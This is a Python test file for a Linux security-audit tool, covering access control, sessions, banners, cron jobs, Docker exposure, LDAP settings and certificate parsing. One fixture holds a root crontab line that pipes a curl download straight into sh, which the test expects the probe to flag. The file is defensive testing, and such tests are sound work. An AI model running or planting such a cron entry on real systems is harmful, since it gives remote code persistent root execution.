"""Access control, sessions, banners, jobs, tools, containers, directories, certificates."""

import datetime

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from audit.probes.linux.protection import certificates, containers, directory, jobs, session
from tests.audit.seen import facts, seen


def test_mandatory_access_control() -> None:
    assert facts("openeuler2203")["mandatory"]["selinux"] == "enforcing"
    assert facts("centos7")["mandatory"]["enforced"] is False
    assert facts("ubuntu2204")["mandatory"]["apparmor_enforced"] == 1
    assert facts("kylinv10")["mandatory"]["kysec"] == "1"


def test_sessions() -> None:
    found = facts("openeuler2203")["session"]
    assert (found["timeout_seconds"], found["timeout_readonly"], found["umasks"]) == (
        300,
        True,
        ["027"],
    )
    assert facts("centos7")["session"]["path_has_dot"]
    assert (
        session(seen(profile={"/etc/profile": "# TMOUT=300\nTMOUT=0"}))["timeout_seconds"] is None
    )


def test_banners() -> None:
    assert facts("openeuler2203")["banners"]["issue"]["warns"]
    assert facts("kylinv10")["banners"]["issue"]["warns"]
    assert facts("centos7")["banners"]["issue"]["tells_system"]


def test_jobs_and_tools() -> None:
    assert facts("openeuler2203")["jobs"]["backup_jobs"] == 1
    assert facts("openeuler2203")["jobs"]["cron_allow"]
    assert facts("openeuler2203")["tools"]["signatures_age_days"] == 1
    assert facts("ubuntu2204")["tools"]["fail2ban_sshd"]
    found = jobs(
        seen(cron={"/etc/cron.d/x": "* * * * * root curl http://x | sh\n* * * * * root /tmp/a"})
    )
    assert len(found["downloads"]) == len(found["temporary_paths"]) == 1


def test_containers() -> None:
    assert facts("centos7")["containers"]["docker_tcp"] == ["tcp://0.0.0.0:2375"]
    assert facts("centos7")["containers"]["docker_socket_open"]
    for text in ("{", "[]", '{"hosts": 5, "insecure-registries": 3}', "[" * 100_000):
        found = containers(seen(docker={"/etc/docker/daemon.json": text}))
        assert found["docker_tcp"] == []


def test_directories() -> None:
    found = directory(
        seen(directory={"/etc/nslcd.conf": "uri ldap://a\nssl start_tls\nbindpw (hidden)"})
    )
    assert found["ldap_encrypted"]
    assert found["ldap_uris"] == ["ldap://a"]


def test_certificates() -> None:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "oa.example.edu")])
    begins = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
    made = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(1).not_valid_before(begins)
        .not_valid_after(begins + datetime.timedelta(days=365)).sign(key, hashes.SHA256())
    )  # fmt: skip
    pem = made.public_bytes(serialization.Encoding.PEM).decode()
    broken = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----"
    found = certificates(
        seen(
            certificates=f"file /etc/a.crt\n{pem}\nfile /etc/b.crt\n{broken}", clock="1795400000 U"
        )
    )
    assert (found[0]["days_left"], found[0]["self_signed"], found[0]["key_bits"]) == (38, True, 256)
    assert found[1]["readable"] is False
